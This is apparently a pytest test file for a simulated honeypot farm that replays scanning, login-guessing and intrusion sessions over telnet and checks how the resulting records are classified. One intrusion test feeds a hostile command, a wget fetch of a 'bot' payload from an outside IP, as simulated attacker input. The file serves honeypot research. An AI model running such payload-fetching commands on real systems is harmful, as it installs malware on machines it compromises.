"""Tests for the live farm driver."""

import pytest

from repro.core.classify import Category, category_shares
from repro.farm.live import (
    IntrusionBehavior,
    LiveFarm,
    ScanBehavior,
    ScoutBehavior,
)
from repro.geo.registry import NetworkType
from repro.net.tcp import TELNET_PORT


@pytest.fixture
def farm():
    return LiveFarm(seed=9, n_honeypots=10)


def client_pool(farm, n=20):
    record = farm.registry.register_as("BR", NetworkType.RESIDENTIAL)
    pool = record.pool()
    return [pool.sample(farm.rng) for _ in range(n)]


class TestLiveFarm:
    def test_scan_produces_no_cred(self, farm):
        ips = client_pool(farm, 3)
        for i, ip in enumerate(ips):
            farm.launch(ip, i, ScanBehavior(), at=1.0 + i)
        farm.run(until=500.0)
        store = farm.harvest()
        assert len(store) == 3
        shares = category_shares(store)
        assert shares[Category.NO_CRED] == 1.0

    def test_scan_telnet_port(self, farm):
        ip = client_pool(farm, 1)[0]
        farm.launch(ip, 0, ScanBehavior(port=TELNET_PORT), at=1.0)
        farm.run(until=500.0)
        store = farm.harvest()
        assert store.record(0).protocol == "telnet"

    def test_scout_produces_fail_log(self, farm):
        ip = client_pool(farm, 1)[0]
        farm.launch(ip, 0, ScoutBehavior(attempts=2), at=1.0)
        farm.run(until=500.0)
        store = farm.harvest()
        record = store.record(0)
        assert record.n_login_attempts == 2
        assert not record.login_success

    def test_intrusion_produces_cmd_uri(self, farm):
        ip = client_pool(farm, 1)[0]
        farm.launch(ip, 0, IntrusionBehavior(
            lines=["uname -a", "wget http://198.51.100.3/bot"],
        ), at=1.0)
        farm.run(until=2000.0)
        store = farm.harvest()
        record = store.record(0)
        assert record.login_success
        assert record.uris == ("http://198.51.100.3/bot",)
        assert record.file_hashes

    def test_fixed_password(self, farm):
        ip = client_pool(farm, 1)[0]
        farm.launch(ip, 0, IntrusionBehavior(
            lines=["uname"], password="1234", failures_before_success=0,
        ), at=1.0)
        farm.run(until=2000.0)
        store = farm.harvest()
        assert store.record(0).password == "1234"

    def test_geo_stamping(self, farm):
        ip = client_pool(farm, 1)[0]
        farm.launch(ip, 0, ScanBehavior(), at=1.0)
        farm.run(until=500.0)
        store = farm.harvest()
        assert store.record(0).client_country == "BR"

    def test_mixed_population(self, farm):
        ips = client_pool(farm, 9)
        behaviors = [ScanBehavior(), ScoutBehavior(),
                     IntrusionBehavior(lines=["uname -a"])]
        for i, ip in enumerate(ips):
            farm.launch(ip, i, behaviors[i % 3], at=1.0 + 5 * i)
        farm.run(until=5000.0)
        store = farm.harvest()
        assert len(store) == 9
        shares = category_shares(store)
        assert shares[Category.NO_CRED] > 0
        assert shares[Category.FAIL_LOG] > 0
        assert shares[Category.CMD] > 0

    def test_unknown_behavior_rejected(self, farm):
        with pytest.raises(TypeError):
            farm.launch(1, 0, object(), at=1.0)

    def test_harvest_times_out_stragglers(self, farm):
        ip = client_pool(farm, 1)[0]

        # A scan whose disconnect never fires (we stop the engine early).
        farm.launch(ip, 0, ScanBehavior(linger=(500.0, 600.0)), at=1.0)
        farm.run(until=5.0)
        store = farm.harvest()
        assert len(store) == 1
        assert store.record(0).close_reason == "auth-timeout"
